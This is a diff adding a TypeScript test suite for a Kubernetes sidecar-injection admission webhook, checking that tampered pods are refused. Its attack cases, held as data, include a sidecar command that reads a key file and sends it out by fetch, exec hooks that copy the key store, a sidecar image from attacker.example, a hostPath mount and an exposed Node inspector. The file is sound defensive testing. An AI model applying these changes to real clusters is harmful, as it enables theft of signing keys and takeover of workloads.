@@ -1,0 +1,158 @@
+// A pod that already carries a sidecar is judged like any other, over real HTTPS: the profiles its
+// sidecar signs with must be literal values the policy entitles, the key isolation rules hold with that
+// sidecar's user, and the sidecar must be what injection makes. Only a pod that passes is left as it
+// is; the attacker's copies below (cases as data) are each refused.
+import test from 'ava';
+import { parse } from 'yaml';
+import { admissionReviewOf } from '../helpers/admission-review.js';
+import { runCli } from '../helpers/cli-process.js';
+import { startInjectorStack } from '../helpers/injector-stack.js';
+import { DEFAULTS } from '../helpers/injection.js';
+import { parseEntitlementPolicy } from '../../src/injection/policy/entitlement-policy.js';
+import type { Container, EnvVar, PodTemplate } from '../../src/injection/pod.js';
+
+type Pod = PodTemplate & { apiVersion: string; kind: string };
+interface Review {
+  response: { allowed: boolean; patch?: string; status?: { message: string } };
+}
+
+const parsed = parseEntitlementPolicy(
+  'entitlements:\n  - namespace: shop\n    serviceAccounts: [checkout]\n    profiles: [billing]\n',
+);
+if (!parsed.ok) throw new Error(parsed.problems.join('; '));
+const POLICY = parsed.policy;
+
+/** A pod as `inject` makes it for the shop's checkout account, signing as billing. */
+async function injectedPod(): Promise<Pod> {
+  const pod = {
+    apiVersion: 'v1',
+    kind: 'Pod',
+    metadata: { name: 'web', labels: { 'sfd-sidecar.io/inject': 'true' } },
+    spec: {
+      serviceAccountName: 'checkout',
+      containers: [{ name: 'web', image: 'example/web:1', securityContext: { runAsUser: 1000 } }],
+    },
+  };
+  const result = await runCli(
+    ['inject', '--keystore-secret', 'sfd-keys', '--profile', 'billing', '--image', DEFAULTS.image, '-'],
+    { input: JSON.stringify(pod) },
+  );
+  if (result.code !== 0) throw new Error(result.stderr);
+  return parse(result.stdout) as Pod;
+}
+
+const sidecarOf = (pod: Pod): Container => pod.spec.initContainers!.find((c) => c.name === 'sfd-sidecar')!;
+const setEnv = (container: Container, name: string, entry: Omit<EnvVar, 'name'>) => {
+  container.env = [...container.env!.filter((e) => e.name !== name), { name, ...entry }];
+};
+const appOf = (pod: Pod): Container => pod.spec.containers[0]!;
+
+const ATTACKS: [title: string, change: (pod: Pod) => void, expected: RegExp][] = [
+  [
+    'a sidecar that signs as a profile its service account is not entitled to',
+    (pod) => setEnv(sidecarOf(pod), 'SFD_PROFILE', { value: 'payroll' }),
+    /may not use profile payroll/,
+  ],
+  [
+    'a sidecar that may pick such a profile per request',
+    (pod) => {
+      setEnv(sidecarOf(pod), 'SFD_ALLOWED_PROFILES', { value: 'billing,payroll' });
+      setEnv(sidecarOf(pod), 'SFD_PROFILE_HEADER', { value: 'X-Pick' });
+    },
+    /may not use profile payroll/,
+  ],
+  [
+    'a sidecar whose profile comes from a ConfigMap',
+    (pod) => setEnv(sidecarOf(pod), 'SFD_PROFILE', { valueFrom: { configMapKeyRef: { name: 'c', key: 'p' } } }),
+    /SFD_PROFILE comes from valueFrom/,
+  ],
+  [
+    'a sidecar whose profile is a reference to another variable',
+    (pod) => setEnv(sidecarOf(pod), 'SFD_PROFILE', { value: '$(PROFILE)' }),
+    /SFD_PROFILE is not a profile name/,
+  ],
+  [
+    'a sidecar taking variables by envFrom',
+    (pod) => (sidecarOf(pod).envFrom = [{ configMapRef: { name: 'settings' } }]),
+    /envFrom/,
+  ],
+  [
+    'a sidecar started with NODE_OPTIONS=--inspect',
+    (pod) => setEnv(sidecarOf(pod), 'NODE_OPTIONS', { value: '--inspect=0.0.0.0:9229' }),
+    /NODE_OPTIONS, which injection never writes/,
+  ],
+  [
+    'a sidecar with an exec probe',
+    (pod) => (sidecarOf(pod).livenessProbe = { exec: { command: ['cp', '-r', '/etc/sfd-sidecar/keys', '/x'] } }),
+    /livenessProbe is not an httpGet probe/,
+  ],
+  [
+    'a sidecar with an exec postStart hook',
+    (pod) => (sidecarOf(pod).lifecycle = { postStart: { exec: { command: ['cp', '/k', '/shared'] } } }),
+    /lifecycle hooks are not the wait-ready hook/,
+  ],
+  [
+    'a sidecar mounting a shared emptyDir besides its keys',
+    (pod) => {
+      pod.spec.volumes!.push({ name: 'shared', emptyDir: {} });
+      sidecarOf(pod).volumeMounts!.push({ name: 'shared', mountPath: '/app' });
+    },
+    /mounts 2 volumes/,
+  ],
+  [
+    'a sidecar with a working directory of its own',
+    (pod) => (sidecarOf(pod).workingDir = '/shared'),
+    /it sets workingDir/,
+  ],
+  [
+    'a sidecar with a command of its own',
+    (pod) => (sidecarOf(pod).command = ['node', '-e', 'fetch("http://x", {body: require("fs").readFileSync("/k")})']),
+    /it sets command/,
+  ],
+  [
+    'a copy that shares the process namespace with an app at the sidecar user',
+    (pod) => {
+      pod.spec.shareProcessNamespace = true;
+      appOf(pod).securityContext = { runAsUser: 65532, allowPrivilegeEscalation: false };
+    },
+    /runs as the sidecar's user 65532/,
+  ],
+  [
+    'a copy whose app mounts the key store volume',
+    (pod) => (appOf(pod).volumeMounts = [{ name: 'sfd-sidecar-keystore', mountPath: '/k' }]),
+    /container web mounts volume sfd-sidecar-keystore/,
+  ],
+  [
+    'a copy whose app mounts the node through hostPath',
+    (pod) => {
+      pod.spec.volumes!.push({ name: 'node', hostPath: { path: '/var/lib/kubelet' } });
+      appOf(pod).volumeMounts = [{ name: 'node', mountPath: '/node' }];
+    },
+    /volume node is a hostPath/,
+  ],
+  [
+    'a sidecar from another image',
+    (pod) => (sidecarOf(pod).image = 'attacker.example/sfd-sidecar:0.1.0'),
+    /its image is not from ghcr.io\/sfd-sidecar\/sfd-sidecar/,
+  ],
+];
+
+test('a pod injected offline for an entitled account is left as it is', async (t) => {
+  const stack = await startInjectorStack(t, DEFAULTS, { policy: () => POLICY });
+  const answer = JSON.parse((await stack.post('/mutate', admissionReviewOf(await injectedPod()))).body) as Review;
+  t.true(answer.response.allowed);
+  t.is(answer.response.patch, undefined);
+});
+
+for (const [title, change, expected] of ATTACKS) {
+  test(`refused through the webhook: ${title}`, async (t) => {
+    const stack = await startInjectorStack(t, DEFAULTS, { policy: () => POLICY });
+    const pod = await injectedPod();
+    change(pod);
+    for (const path of ['/mutate', '/mutate/namespace']) {
+      const answer = JSON.parse((await stack.post(path, admissionReviewOf(pod))).body) as Review;
+      t.false(answer.response.allowed, path);
+      t.regex(answer.response.status!.message, expected);
+    }
+  });
+}
